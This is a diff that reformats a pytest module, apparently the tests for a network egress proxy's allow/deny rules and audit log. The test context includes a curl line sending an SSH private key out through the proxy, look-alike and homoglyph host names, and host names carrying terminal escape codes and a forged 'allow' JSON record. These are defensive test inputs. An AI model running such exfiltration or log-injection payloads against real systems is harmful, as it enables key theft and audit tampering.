@@ -35,7 +35,16 @@ from pathlib import Path
 
 import pytest
 from netfixtures import (
-    BIG, NetWorld, one, pid_alive, probe_lines, q, runtime_dir, tagged, timed_probe, wait_for,
+    BIG,
+    NetWorld,
+    one,
+    pid_alive,
+    probe_lines,
+    q,
+    runtime_dir,
+    tagged,
+    timed_probe,
+    wait_for,
 )
 
 pytestmark = [
@@ -267,7 +276,15 @@ curl -sS -x "$PX" "http://allowed.test:$HP/control19"; echo "control=$?"
 
 # --- 21 ---------------------------------------------------------------------------------------------
 
-SPELLINGS_21 = ("blocked.wild.test.", "BLOCKED.wild.test", "Blocked.Wild.Test.", "wild.test", "allowed.test.evil.test", "evilallowed.test", "\u0430llowed.test")
+SPELLINGS_21 = (
+    "blocked.wild.test.",
+    "BLOCKED.wild.test",
+    "Blocked.Wild.Test.",
+    "wild.test",
+    "allowed.test.evil.test",
+    "evilallowed.test",
+    "\u0430llowed.test",
+)
 
 
 def test_case_21_name_spellings_against_allow_and_deny(warm: NetWorld) -> None:
@@ -901,7 +918,9 @@ curl -sS -x "$PX" --data-binary @"$H/.ssh/id_test" "http://allowed.test:$HP/key3
 
 # --- 34 ---------------------------------------------------------------------------------------------
 
-INJECTION_34 = RAW_CLIENT + r"""
+INJECTION_34 = (
+    RAW_CLIENT
+    + r"""
 hp = sys.argv[1]
 hosts = ["a\x1b]52;c;aGk=\x07.test", 'a\n{"decision":"allow"}.test', 'a%0a{"decision":"allow"}.test', "[red]x[/red].test"]
 for i, host in enumerate(hosts):
@@ -909,6 +928,7 @@ for i, host in enumerate(hosts):
     print(f"get{i}=" + raw(f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode("latin-1")).split(b"\r\n")[0].decode(errors="replace"))
 print("host_header=" + raw(f"GET http://allowed.test:{hp}/h34 HTTP/1.1\r\nHost: a\x1b[31m{{\"decision\":\"allow\"}}.test\r\nConnection: close\r\n\r\n".encode("latin-1")).split(b"\r\n")[0].decode(errors="replace"))
 """
+)
 
 
 def test_case_34_audit_log_injection_through_names(warm: NetWorld) -> None:
@@ -933,7 +953,9 @@ curl -s -o /dev/null -w "escaped=%{{http_code}}\\n" -x "$PX" "http://allowed.tes
     assert all(0x20 <= ord(c) < 0x7f for line in lines for c in line), "a raw control or non-ASCII byte in the audit log"
     parsed = [json.loads(line) for line in lines]  # one well-formed record per line
     assert all(r["decision"] == "deny" for r in parsed if r.get("path") not in ("/[red]x[/red]/[link=file:///etc]y[/link]", "/%1b%5b31mred%07"))
-    assert sum(r["decision"] == "allow" and r["phase"] == "end" for r in parsed) == 2  # only the two controls (each also has its start record); no injected "allow"
+    assert (
+        sum(r["decision"] == "allow" and r["phase"] == "end" for r in parsed) == 2
+    )  # only the two controls (each also has its start record); no injected "allow"
     shown = w.stockade("audit", "--log", str(path))
     assert shown.returncode == 0, shown.stderr
     assert "\x1b" not in shown.stdout and "\x07" not in shown.stdout
@@ -1061,7 +1083,16 @@ def test_keep_alive_requests_through_the_bridge_are_not_stalled(warm: NetWorld) 
 def test_no_denied_name_was_ever_resolved(warm: NetWorld) -> None:
     """Across every run of this module (when run whole), the test resolver never saw a denied or look-alike name."""
     asked = {name.lower().rstrip(".") for name in warm.queried()}
-    allowed = {"allowed.test", "a.wild.test", "pypi.test", "rebind.wild.test", "meta.wild.test", "priv.wild.test", "xn--bcher-kva.test", "bücher.test"}
+    allowed = {
+        "allowed.test",
+        "a.wild.test",
+        "pypi.test",
+        "rebind.wild.test",
+        "meta.wild.test",
+        "priv.wild.test",
+        "xn--bcher-kva.test",
+        "bücher.test",
+    }
     assert asked <= allowed, asked - allowed
 
 
